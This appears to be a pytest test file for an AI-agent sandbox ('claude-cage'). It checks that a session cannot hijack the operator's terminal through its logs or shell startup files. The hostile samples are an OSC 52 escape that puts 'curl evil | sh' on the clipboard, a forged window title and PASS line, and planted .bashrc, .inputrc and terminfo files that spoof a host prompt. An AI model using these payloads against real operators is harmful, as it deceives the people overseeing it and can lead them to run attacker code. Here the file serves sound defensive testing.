"""The operator's terminal, attacked from inside a session: what the session writes to
its logs comes out of `logs --raw` escaped on a terminal (no clipboard write, title,
screen clear or forged PASS line reaches it), and `shell` reads none of the startup
files the agent can write."""

from __future__ import annotations

import re

import pytest

from tests.conftest import Cage, logs_bytes
from tests.integration.terminal import Terminal
from tests.integration.test_attach import on_a_tty

pytestmark = pytest.mark.engine

# Written by the session to its own container log (the stdout of its PID 1).
HOSTILE = (
    r"\033]52;c;Y3VybCBldmlsIHwgc2g=\007"  # OSC 52: put "curl evil | sh" on the clipboard
    r"\033]0;root@host: ~\007"  # the window title
    r"\033[2J\033[H"  # clear the screen
    r"\r\033[2KPASS  read-only root  root filesystem is read-only\n"  # a forged line
)
CONTROL = re.compile(rb"[\x00-\x08\x0b-\x1f\x7f]")


@pytest.fixture(scope="module")
def session(cage_module: Cage) -> str:
    name = cage_module.name("term")
    assert cage_module("start", "--name", name, "--network", "none", "--detach").code == 0
    return name


def write_to_log(cage: Cage, name: str, text: str) -> None:
    wrote = cage("exec", name, "--", "sh", "-c", f"printf '{text}' > /proc/1/fd/1")
    assert wrote.code == 0, wrote.output


def test_logs_show_escape_sequences_escaped(cage_module: Cage, session: str) -> None:
    write_to_log(cage_module, session, HOSTILE)
    # On a terminal, the container's output comes out escaped.
    terminal = Terminal(["claude-cage", "logs", session, "--raw"], cage_module.env)
    try:
        assert terminal.wait(60) == 0
    finally:
        terminal.close()
    out = terminal.output.replace(b"\r\n", b"\n")  # the terminal's own line endings
    assert not CONTROL.search(out), out
    text = out.decode()
    assert "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07" in text  # visible, and inert
    assert "\\x1b]0;root@host: ~\\x07\\x1b[2J" in text
    assert not any(line.startswith("PASS") for line in text.splitlines())
    assert "\\r\\x1b[2KPASS  read-only root" in text


def test_logs_raw_to_a_pipe_passes_them_through(cage_module: Cage, session: str) -> None:
    write_to_log(cage_module, session, HOSTILE)
    out = logs_bytes(cage_module, session, "--raw", "--tail", "1")
    assert b"\x1b]52;c;" in out and b"\r\x1b[2KPASS" in out


def test_shell_reads_no_startup_file_the_agent_wrote(cage_module: Cage, session: str) -> None:
    # Every file bash, readline and ncurses would read from the agent's home, each
    # announcing itself, and a prompt made to look like the host's.
    plant = (
        "cd ~ && for f in .bashrc .profile .bash_profile .bash_login .bash_logout; do "
        "printf 'echo PLANTED-$f; PS1=\"root@host:~# \"\\n' > $f; done && "
        'printf \'"\\\\C-m": "echo PLANTED-inputrc\\\\n"\\n\' > .inputrc && '
        "printf 'echo PLANTED-history\\n' > .bash_history && "
        "mkdir -p .terminfo && printf 'xterm-256color|planted,\\n\\tclear=PLANTED-terminfo,\\n' "
        "> /tmp/t.src && tic -o .terminfo /tmp/t.src 2>/dev/null; ls -a ~"
    )
    planted = cage_module("exec", session, "--", "sh", "-c", plant)
    assert ".bashrc" in planted.stdout and ".terminfo" in planted.stdout, planted.output
    out = on_a_tty(
        cage_module,
        ["claude-cage", "shell", session],
        b"echo answer-$((6*7)); tput clear; exit\n",
        timeout=60,
    )
    assert "answer-42" in out
    assert "PLANTED" not in out and "root@host" not in out
    assert f"[cage {session}] /workspace $" in out
